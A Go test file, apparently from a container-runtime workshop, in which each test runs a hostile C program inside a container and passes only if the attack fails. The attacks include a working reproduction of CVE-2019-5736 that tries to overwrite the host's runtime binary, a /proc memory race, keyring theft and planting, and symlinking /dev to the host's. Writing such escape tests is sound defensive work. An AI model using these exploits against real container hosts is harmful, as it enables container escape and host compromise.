package main

// Hostile containers: each test performs an attack from inside a container
// (a small static C program, built here with gcc) and passes only because
// the attack fails.

import (
	"bytes"
	"crypto/sha256"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"

	"github.com/container-internals/workshop/internal/testkit"
)

// cprog builds a static C program into dir (made if need be) and returns
// its path.
func cprog(t *testing.T, dir, name, src string) string {
	t.Helper()
	if _, err := exec.LookPath("gcc"); err != nil {
		testkit.Unavailable(t, "gcc is needed to build the attack programs: apt-get install gcc")
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(dir, 0o755); err != nil { // t.TempDir() is 0700: the container's user must read it
		t.Fatal(err)
	}
	c := filepath.Join(dir, name+".c")
	if err := os.WriteFile(c, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(dir, name)
	if out, err := exec.Command("gcc", "-static", "-O2", "-o", bin, c).CombinedOutput(); err != nil {
		t.Fatalf("gcc %s: %v\n%s", name, err, out)
	}
	return bin
}

// waitFor polls path until it holds want (or the time is up) and returns
// what it holds.
// endsWithin waits for cmd (started) to end, or kills it and fails the
// test after d, saying what did not happen.
func endsWithin(t *testing.T, cmd *exec.Cmd, d time.Duration, what string) {
	t.Helper()
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(d):
		cmd.Process.Kill()
		t.Fatal(what)
	}
}

func waitFor(path, want string, d time.Duration) string {
	deadline := time.Now().Add(d)
	for {
		b, _ := os.ReadFile(path)
		if strings.Contains(string(b), want) || time.Now().After(deadline) {
			return string(b)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// The exec helper's child, between fork and execve, is in the container's
// PID namespace. The watcher predicts its PID (PIDs in a namespace are
// handed out in order) and opens /proc/<pid>/mem read-write: if that
// succeeds before the child has become /t/target, the container holds the
// memory of a process of the runtime's.
const memWatcher = `
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
	int next = getpid() + 1;
	FILE *out = fopen("/t/out/watch", "w");
	setvbuf(out, NULL, _IONBF, 0);
	fprintf(out, "ready\n");
	for (;;) {
		for (int p = next; p < next + 64; p++) {
			char path[64], exe[256];
			snprintf(path, sizeof path, "/proc/%d/mem", p);
			int fd = open(path, O_RDWR);
			if (fd < 0) continue;
			snprintf(path, sizeof path, "/proc/%d/exe", p);
			ssize_t n = readlink(path, exe, sizeof exe - 1);
			exe[n > 0 ? n : 0] = 0;
			if (strcmp(exe, "/t/target") == 0) {
				next = p + 1;
			} else if (p != getpid()) {
				fprintf(out, "WON %d %s\n", p, exe);
			}
			close(fd);
		}
	}
}
`

const sleepTarget = `
#include <time.h>
int main(void) { struct timespec ts = {0, 20000000}; nanosleep(&ts, 0); return 0; }
`

func TestExecChildMemoryIsOutOfTheContainersReach(t *testing.T) {
	setup(t)
	execMemoryRace(t, t.TempDir(), "memrace")
}

// execMemoryRace runs the watcher in a container (name, with runFlags),
// execs the target into it 30 times, and fails the test if the watcher
// ever opened a process's memory read-write.
func execMemoryRace(t *testing.T, dir, name string, runFlags ...string) {
	t.Helper()
	cprog(t, dir, "watch", memWatcher)
	cprog(t, dir, "target", sleepTarget)
	os.MkdirAll(filepath.Join(dir, "out"), 0o777)
	os.Chmod(filepath.Join(dir, "out"), 0o777) // past the umask: the container's root may be another uid
	detached(t, name, append(runFlags, "-v", dir+":/t", "--", "/t/watch")...)
	if got := waitFor(filepath.Join(dir, "out", "watch"), "ready", 5*time.Second); !strings.Contains(got, "ready") {
		t.Fatalf("the watcher did not start: %q", got)
	}
	for i := 0; i < 30; i++ {
		if r := ctr(t, opts{}, "exec", name, "--", "/t/target"); r.Code != 0 {
			t.Fatalf("exec:\n%s", r)
		}
	}
	b, _ := os.ReadFile(filepath.Join(dir, "out", "watch"))
	if strings.Contains(string(b), "WON") {
		t.Fatalf("a container process opened the exec helper's or its child's memory read-write:\n%s", b)
	}
}

func TestInitThreadsHoldOnlyTheContainersCapabilities(t *testing.T) {
	setup(t)
	r := ctr(t, opts{}, "run", "--init", "--", "sh", "-c",
		`grep CapEff /proc/self/status; for s in /proc/1/task/*/status; do grep -h -e CapEff -e CapPrm -e NoNewPrivs $s; done`)
	if r.Code != 0 {
		t.Fatalf("run --init:\n%s", r)
	}
	lines := strings.Split(strings.TrimSpace(r.Stdout), "\n")
	own := strings.Fields(lines[0])[1]
	threads := 0
	for _, l := range lines[1:] {
		f := strings.Fields(l)
		switch f[0] {
		case "CapEff:", "CapPrm:":
			if f[1] != own {
				t.Errorf("a thread of --init's PID 1 has %s %s, the container's command %s:\n%s", f[0], f[1], own, r.Stdout)
			}
			threads++
		case "NoNewPrivs:":
			if f[1] != "1" {
				t.Errorf("a thread of PID 1 can gain privileges (NoNewPrivs 0):\n%s", r.Stdout)
			}
		}
	}
	if threads < 4 {
		t.Fatalf("expected the threads of a Go PID 1:\n%s", r)
	}
	// And what the attack did next, patching PID 1 to remount /proc/sys:
	// PID 1 is not the host's binary and cannot be written through.
	r = ctr(t, opts{}, "run", "--init", "--", "sh", "-c", `echo x >> /proc/1/exe && echo WROTE`)
	if strings.Contains(r.Stdout, "WROTE") {
		t.Fatalf("/proc/1/exe of --init was writable:\n%s", r)
	}
}

// CVE-2019-5736: the container's /evilsh starts with #!/proc/self/exe, so
// `exec ... /evilsh` runs the runtime binary inside the container; the
// attacker keeps a handle on that process's exe and writes through it once
// it has exited.
const exeOverwriter = `
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
int main(void) {
	FILE *out = fopen("/t/out/attack", "w");
	setvbuf(out, NULL, _IONBF, 0);
	int s = open("/evilsh", O_WRONLY | O_CREAT | O_TRUNC, 0755);
	write(s, "#!/proc/self/exe\n", 17);
	close(s);
	fprintf(out, "ready\n");
	int next = getpid() + 1, fd = -1;
	while (fd < 0) {
		for (int p = next; p < next + 64 && fd < 0; p++) {
			char path[64];
			snprintf(path, sizeof path, "/proc/%d/exe", p);
			fd = open(path, O_PATH);
		}
	}
	char link[256];
	snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
	fprintf(out, "handle\n");
	struct timespec ms = {0, 1000000};
	for (int i = 0; i < 5000; i++) {
		int w = open(link, O_WRONLY | O_TRUNC);
		if (w >= 0) {
			write(w, "#!/bin/sh\necho PWNED\n", 21);
			fprintf(out, "WROTE\n");
			return 0;
		}
		if (errno != ETXTBSY) {
			fprintf(out, "refused: %s\n", strerror(errno));
			return 0;
		}
		nanosleep(&ms, 0);
	}
	fprintf(out, "timeout\n");
	return 0;
}
`

func TestRuntimeBinaryCannotBeRewrittenFromInside(t *testing.T) {
	setup(t)
	dir := t.TempDir()
	cprog(t, dir, "attack", exeOverwriter)
	os.MkdirAll(filepath.Join(dir, "out"), 0o777)
	// Copies of the runtime: if the attack works, it is a copy that is
	// destroyed, not the build the other tests use. The one that runs the
	// container stays busy (its monitor waits for the container) and
	// cannot be written while it runs; the one `exec` runs can, once the
	// exec has ended, as runc could.
	orig, err := os.ReadFile(testkit.Stage(t, "06-full-container"))
	if err != nil {
		t.Fatal(err)
	}
	copies := t.TempDir()
	bin, execBin := filepath.Join(copies, "06-full-container"), filepath.Join(copies, "workshop-exec-copy")
	for _, p := range []string{bin, execBin} {
		if err := os.WriteFile(p, orig, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	run := func(args ...string) testkit.Result {
		return testkit.Run(t, opts{}, bin, append([]string{"--root", sharedRoot(t)}, args...)...)
	}
	if r := run("run", "-d", "--name", "cve", "-v", dir+":/t", "--", "/t/attack"); r.Code != 0 {
		t.Fatalf("run -d:\n%s", r)
	}
	t.Cleanup(func() { run("rm", "-f", "cve") })
	out := filepath.Join(dir, "out", "attack")
	if got := waitFor(out, "ready", 5*time.Second); !strings.Contains(got, "ready") {
		t.Fatalf("the attacker did not start: %q", got)
	}
	// The runtime itself, inside: it fails, as it should. The attacker must
	// catch it running (a few milliseconds): on a loaded machine it may
	// take more than one exec.
	for i := 0; i < 10 && !strings.Contains(waitFor(out, "handle", 300*time.Millisecond), "handle"); i++ {
		testkit.Run(t, opts{}, execBin, "--root", sharedRoot(t), "exec", "cve", "--", "/evilsh")
	}
	var got string
	for _, end := range []string{"refused", "WROTE", "timeout"} {
		if got = waitFor(out, end, 8*time.Second); strings.Contains(got, end) {
			break
		}
	}
	for _, p := range []string{bin, execBin} {
		if now, _ := os.ReadFile(p); sha256.Sum256(now) != sha256.Sum256(orig) {
			t.Fatalf("the host's runtime binary %s was rewritten from inside the container:\n%s", filepath.Base(p), got)
		}
	}
	if !strings.Contains(got, "handle") || !strings.Contains(got, "refused") {
		t.Fatalf("the attack did not run as planned (want a handle on the runtime, then a refused write):\n%s", got)
	}
}

// A key in the session keyring of whoever starts the runtime must not be
// readable inside, and a key planted inside must not reach that keyring.
const withKey = `
#include <stdio.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#include <linux/keyctl.h>
int main(int argc, char **argv) {
	syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "workshop-test");
	if (syscall(SYS_add_key, "user", "workshop-secret", "s3cret", 6, KEY_SPEC_SESSION_KEYRING) < 0) { perror("add_key"); return 2; }
	pid_t p = fork();
	if (p == 0) { execv(argv[1], argv + 1); perror("execv"); _exit(127); }
	int st; waitpid(p, &st, 0);
	long k = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "planted", 0);
	printf("host sees planted: %s\n", k >= 0 ? "yes" : "no");
	return WEXITSTATUS(st);
}
`

const keyProbe = `
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <linux/keyctl.h>
int main(void) {
	char buf[64] = {0};
	long k = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "workshop-secret", 0);
	if (k >= 0 && syscall(SYS_keyctl, KEYCTL_READ, k, buf, sizeof buf - 1) > 0) printf("container reads: %s\n", buf);
	else printf("container reads: nothing\n");
	syscall(SYS_add_key, "user", "planted", "x", 1, KEY_SPEC_SESSION_KEYRING);
	return 0;
}
`

func TestKeyringIsTheContainersOwn(t *testing.T) {
	setup(t)
	dir := t.TempDir()
	with := cprog(t, dir, "withkey", withKey)
	cprog(t, dir, "probe", keyProbe)
	bin := testkit.Stage(t, "06-full-container")
	r := testkit.Run(t, opts{}, with, bin, "--root", sharedRoot(t), "run", "-v", dir+":/t:ro", "--", "/t/probe")
	if r.Code != 0 || !strings.Contains(r.Stdout, "container reads:") {
		t.Fatalf("the probe did not run:\n%s", r)
	}
	if !strings.Contains(r.Stdout, "container reads: nothing") {
		t.Errorf("the container read a key of the host's session keyring:\n%s", r)
	}
	if !strings.Contains(r.Stdout, "host sees planted: no") {
		t.Errorf("a key planted in the container reached the host's session keyring:\n%s", r)
	}
}

func TestSysctlsOutsideTheContainersNamespacesAreRefused(t *testing.T) {
	setup(t)
	// Each refused key is asked for with the host's own current value: if
	// the check ever broke, the test would notice the create succeeding
	// without having changed the host.
	host := func(key string) string {
		b, err := os.ReadFile("/proc/sys/" + strings.ReplaceAll(key, ".", "/"))
		if err != nil {
			t.Fatal(err)
		}
		return strings.TrimSpace(string(b))
	}
	before := host("kernel.core_pattern") + host("kernel.core_uses_pid") + host("net.ipv4.ip_forward")
	for _, tc := range []struct {
		key, value, want string
		edit             func(*specs.Spec)
	}{
		{"kernel.core_uses_pid", host("kernel.core_uses_pid"), "not namespaced", nil},
		{"kernel.core_pattern", host("kernel.core_pattern"), "not namespaced", nil},
		{"net/../kernel/core_uses_pid", host("kernel.core_uses_pid"), "not a sysctl name", nil},
		{"net.ipv4.ip_forward", host("net.ipv4.ip_forward"), "needs a net namespace", func(s *specs.Spec) {
			var keep []specs.LinuxNamespace
			for _, ns := range s.Linux.Namespaces {
				if ns.Type != specs.NetworkNamespace {
					keep = append(keep, ns)
				}
			}
			s.Linux.Namespaces = keep
		}},
		{"net.ipv4.ip_forward", host("net.ipv4.ip_forward"), "needs a net namespace", func(s *specs.Spec) {
			for i, ns := range s.Linux.Namespaces {
				if ns.Type == specs.NetworkNamespace {
					s.Linux.Namespaces[i].Path = fmt.Sprintf("/proc/%d/ns/net", os.Getpid()) // the host's own
				}
			}
		}},
	} {
		dir := bundle(t, func(s *specs.Spec) {
			s.Linux.Sysctl = map[string]string{tc.key: tc.value}
			if tc.edit != nil {
				tc.edit(s)
			}
		})
		_, r := create(t, dir, "sysctl-refused")
		if r.Code == 0 {
			ctr(t, opts{}, "delete", "-f", "sysctl-refused")
			t.Errorf("create accepted linux.sysctl %s=%s", tc.key, tc.value)
			continue
		}
		if !strings.Contains(r.Stdout, "linux.sysctl") || !strings.Contains(r.Stdout, tc.want) {
			t.Errorf("sysctl %s: want one line naming linux.sysctl and %q:\n%s", tc.key, tc.want, r.Stdout)
		}
	}
	if after := host("kernel.core_pattern") + host("kernel.core_uses_pid") + host("net.ipv4.ip_forward"); after != before {
		t.Fatalf("the host's kernel parameters changed: %q -> %q", before, after)
	}
	// A namespaced one still works, in the container's own namespace only.
	dir := bundle(t, func(s *specs.Spec) {
		s.Linux.Sysctl = map[string]string{"net.ipv4.ip_unprivileged_port_start": "80"}
		s.Process.Args = []string{"cat", "/proc/sys/net/ipv4/ip_unprivileged_port_start"}
	})
	hostBefore, _ := os.ReadFile("/proc/sys/net/ipv4/ip_unprivileged_port_start")
	out, r := create(t, dir, "sysctl-ok")
	if r.Code != 0 {
		t.Fatalf("create with a net.* sysctl:\n%s", r)
	}
	ctr(t, opts{}, "start", "sysctl-ok")
	waitStopped(t, "sysctl-ok")
	ctr(t, opts{}, "delete", "sysctl-ok")
	if got := waitFor(out, "80", time.Second); strings.TrimSpace(got) != "80" {
		t.Errorf("the container's net.ipv4.ip_unprivileged_port_start: %q, want 80", got)
	}
	if hostAfter, _ := os.ReadFile("/proc/sys/net/ipv4/ip_unprivileged_port_start"); !bytes.Equal(hostBefore, hostAfter) {
		t.Errorf("the host's value changed: %q -> %q", hostBefore, hostAfter)
	}
}

func TestVolumeOnDevLeavesTheHostDirectoryAlone(t *testing.T) {
	setup(t)
	host := t.TempDir()
	for _, f := range []string{"null", "stdout", "zero"} {
		os.WriteFile(filepath.Join(host, f), []byte("host file "+f+"\n"), 0o644)
	}
	before := treeHash(t, host)
	r := ctr(t, opts{}, "run", "-v", host+":/dev", "--", "sh", "-c", "cat /dev/stdout < /dev/null; ls /dev")
	if r.Code != 0 {
		t.Fatalf("run -v DIR:/dev:\n%s", r)
	}
	if after := treeHash(t, host); after != before {
		out, _ := exec.Command("ls", "-l", host).CombinedOutput()
		t.Fatalf("run -v DIR:/dev changed the host directory:\n%s", out)
	}
	noContainersLeft(t)
}

func TestBundleWithoutDevMountKeepsItsRootfsClean(t *testing.T) {
	setup(t)
	dir := bundle(t, func(s *specs.Spec) {
		var keep []specs.Mount
		for _, m := range s.Mounts {
			if !strings.HasPrefix(m.Destination, "/dev") {
				keep = append(keep, m)
			}
		}
		s.Mounts = keep
		// The container turns its rootfs/dev into a link to the host's /dev:
		// delete must not follow it.
		s.Process.Args = []string{"sh", "-c", "ls /dev/null /dev/zero >/dev/null && rm -rf /dev && ln -s /proc/1/root/dev /dev || true"}
	})
	before := treeHash(t, filepath.Join(dir, "rootfs"))
	_, r := create(t, dir, "nodev")
	if r.Code != 0 {
		t.Fatalf("create:\n%s", r)
	}
	ctr(t, opts{}, "start", "nodev")
	waitStopped(t, "nodev")
	if r := ctr(t, opts{}, "delete", "nodev"); r.Code != 0 {
		t.Fatalf("delete:\n%s", r)
	}
	if _, err := os.Stat("/dev/null"); err != nil {
		t.Fatalf("the host's /dev/null is gone: %v", err)
	}
	// The container replaced rootfs/dev itself (that is its right); put
	// it back as it was and compare the rest.
	os.Remove(filepath.Join(dir, "rootfs", "dev"))
	os.MkdirAll(filepath.Join(dir, "rootfs", "dev"), 0o755)
	if after := treeHash(t, filepath.Join(dir, "rootfs")); after != before {
		t.Errorf("the bundle's rootfs changed")
	}

	// Without the container's help: the nodes made in rootfs/dev are gone.
	dir = bundle(t, func(s *specs.Spec) {
		var keep []specs.Mount
		for _, m := range s.Mounts {
			if !strings.HasPrefix(m.Destination, "/dev") {
				keep = append(keep, m)
			}
		}
		s.Mounts = keep
		s.Process.Args = []string{"ls", "/dev/null"}
	})
	before = treeHash(t, filepath.Join(dir, "rootfs"))
	if _, r := create(t, dir, "nodev2"); r.Code != 0 {
		t.Fatalf("create:\n%s", r)
	}
	ctr(t, opts{}, "start", "nodev2")
	waitStopped(t, "nodev2")
	ctr(t, opts{}, "delete", "nodev2")
	if after := treeHash(t, filepath.Join(dir, "rootfs")); after != before {
		ents, _ := os.ReadDir(filepath.Join(dir, "rootfs", "dev"))
		t.Errorf("delete left device nodes in the bundle's rootfs/dev: %v", ents)
	}
}

func TestKilledExecLeavesNothingRunning(t *testing.T) {
	setup(t)
	detached(t, "execkill", "--", "sleep", "1000")
	for _, sig := range []syscall.Signal{syscall.SIGKILL, syscall.SIGTERM} {
		cmd := exec.Command(testkit.Stage(t, "06-full-container"), "--root", sharedRoot(t), "exec", "execkill", "--", "sleep", "777")
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		deadline := time.Now().Add(5 * time.Second)
		for len(processesRunning("sleep 777")) == 0 && time.Now().Before(deadline) {
			time.Sleep(10 * time.Millisecond)
		}
		if len(processesRunning("sleep 777")) == 0 {
			t.Fatalf("exec's command never started")
		}
		cmd.Process.Signal(sig)
		cmd.Wait()
		deadline = time.Now().Add(3 * time.Second)
		for time.Now().Before(deadline) && len(processesRunning("sleep 777", execArg)) > 0 {
			time.Sleep(20 * time.Millisecond)
		}
		if left := processesRunning("sleep 777", execArg); len(left) > 0 {
			t.Fatalf("after %v of exec, still running: %v", sig, left)
		}
	}
}

// processesRunning lists the host's processes whose command line contains
// any of the strings.
func processesRunning(any ...string) []string {
	var found []string
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err != nil {
			continue
		}
		cmdline := strings.ReplaceAll(strings.TrimRight(string(b), "\x00"), "\x00", " ")
		for _, s := range any {
			if strings.Contains(cmdline, s) {
				found = append(found, e.Name()+": "+cmdline)
				break
			}
		}
	}
	return found
}

// Both ways of sealing the program refuse a write through the handle,
// the way CVE-2019-5736 wrote: reopening /proc/self/fd/N for writing.
func TestSealedProgramRefusesWrites(t *testing.T) {
	testkit.RequireRoot(t)
	sealed.emptyDir = filepath.Join(t.TempDir(), exeLowerDir)
	overlay, err := overlayExe(nil)
	if err != nil {
		testkit.Unavailable(t, "overlayfs cannot seal this test binary here: %v", err)
	}
	memfd, err := memfdExe(nil)
	if err != nil {
		t.Fatalf("memfd: %v", err)
	}
	for how, fd := range map[string]int{"overlay": overlay, "memfd": memfd} {
		p := fmt.Sprintf("/proc/self/fd/%d", fd)
		// (A sealed memfd may open for writing; no write goes through.)
		if f, err := os.OpenFile(p, os.O_WRONLY, 0); err == nil {
			if _, err := f.Write([]byte("#!/bin/sh\n")); err == nil {
				t.Errorf("a write through the %s handle went through", how)
			}
			f.Close()
		}
		// And it is this program, whole.
		self, _ := os.ReadFile("/proc/self/exe")
		if got, err := os.ReadFile(p); err != nil || !bytes.Equal(got, self) {
			t.Errorf("the %s handle does not hold this program: %v", how, err)
		}
		syscall.Close(fd)
	}
}
